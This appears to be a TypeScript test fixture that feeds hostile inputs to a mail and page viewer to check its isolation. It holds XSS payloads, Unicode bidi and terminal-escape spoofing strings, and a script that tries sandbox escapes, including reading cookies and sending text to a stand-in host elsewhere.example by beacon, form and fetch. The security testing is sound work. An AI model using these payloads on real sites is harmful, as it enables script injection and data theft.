import { hostileIdents } from './hostile-dataset.js';

/** Every mail by the instance_id it belongs to: what would run, what deceives the eye, and what is merely long. */
export const hostileMails: Readonly<Record<string, string>> = {
  '0': 'Subject: <script>window.hacked=1</script>\n\n</pre></section><img src=x onerror=window.hacked=1>\n',
  '1': '<html><body onload="window.hacked=1"><iframe srcdoc="<script>parent.hacked=1</script>"></iframe></body></html>',
  '2': '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62; &amp;amp; %3Cscript%3E <!-- ]]> {{window.hacked=1}}',
  '3': '\u202eexe.gpj\u202c \u2066\u05e9\u05dc\u05d5\u05dd\u2069 a\u200bb\ufeff \u001b[31mred\u001b]0;x\u0007 \u0000 end',
  '4': `start ${'<b>long</b> '.repeat(87_000)}end`,
  '5': hostileIdents.join('\n'),
};

/** Tries every way out of its frame that a script could think of, and keeps what became of each in `results`. */
const breakOut = `<!doctype html><title>page</title><p id="told"></p><script>
window.results = {};
const attempt = (name, work) => {
  try { results[name] = String(work()); } catch (error) { results[name] = error.name; }
};
const later = (name, promise) => promise.then(() => (results[name] = 'done'), (error) => (results[name] = error.name));
const element = (name, properties) => {
  const made = Object.assign(document.createElement(name), properties);
  document.documentElement.append(made);
  return made;
};
const elsewhere = 'http://elsewhere.example/';
addEventListener('message', ({ data }) => {
  document.getElementById('told').textContent = data.text;
  attempt('cookie', () => document.cookie);
  attempt('storage', () => localStorage.length);
  attempt('database', () => indexedDB.open('x') && 'opened');
  attempt('parent', () => parent.document.title);
  attempt('parent variable', () => (parent.hacked = 1));
  attempt('top', () => (top.location = elsewhere));
  attempt('opener', () => open(elsewhere));
  attempt('dialog', () => [alert(1), confirm('1'), prompt('password')]);
  attempt('print', () => print());
  attempt('worker', () => new SharedWorker('x.js'));
  attempt('beacon', () => navigator.sendBeacon(elsewhere, data.text) && 'queued');
  attempt('form', () => element('form', { action: elsewhere, method: 'post' }).submit());
  attempt('link', () => element('a', { href: elsewhere, target: '_top' }).click());
  attempt('download', () => element('a', { href: 'data:text/plain,x', download: 'x.txt' }).click());
  attempt('image', () => element('img', { src: elsewhere + 'image' }) && 'made');
  attempt('style', () => element('style', { textContent: '@import "' + elsewhere + '"; p { background: url(' + elsewhere + ') }' }) && 'made');
  attempt('script', () => element('script', { src: elsewhere + 'script.js' }) && 'made');
  attempt('socket', () => (new WebSocket('ws://elsewhere.example/').onerror = () => (results.socket = 'refused')) && 'opening');
  parent.postMessage({ type: 'secuml-instance', hacked: 1 }, '*');
  Promise.allSettled([
    later('fetch', fetch(elsewhere)),
    later('api', fetch('/api/home', { credentials: 'include' })),
    later('import', import(elsewhere + 'module.js')),
    later('service worker', Promise.resolve().then(() => navigator.serviceWorker.register('/sw.js'))),
    later('clipboard', Promise.resolve().then(() => navigator.clipboard.readText())),
    later('full screen', Promise.resolve().then(() => document.documentElement.requestFullscreen())),
  ]).then(() => (results.finished = true));
});
</script>`;

/** A project's views: its mails as text, and a page of its own that tries to break out. */
export function hostileViews(project: string, dataset: string): Record<string, string> {
  const views = `input_data/${project}/views`;
  const mails = Object.entries(hostileMails).map(([id, text]) => [
    `input_data/${project}/${dataset}/instances/${id}.txt`,
    text,
  ]);
  return {
    ...(Object.fromEntries(mails) as Record<string, string>),
    [`${views}/mail/view.json`]: JSON.stringify({ title: '<b>Mail</b> \u202eliam', kind: 'text' }),
    [`${views}/page/view.json`]: JSON.stringify({ title: '"><img src=x onerror=window.hacked=1>', kind: 'html' }),
    [`${views}/page/page.html`]: breakOut,
  };
}
